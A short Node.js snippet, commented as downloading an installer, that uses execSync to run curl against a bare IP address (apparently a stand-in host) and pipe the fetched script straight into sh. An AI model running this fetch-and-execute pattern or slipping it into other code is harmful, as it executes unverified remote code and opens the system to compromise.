1// Downloads an installer script and pipes it straight into the shell.
const { execSync } = require('child_process');

execSync('curl -fsSL http://203.0.113.50/install.sh | sh', { stdio: 'inherit' });
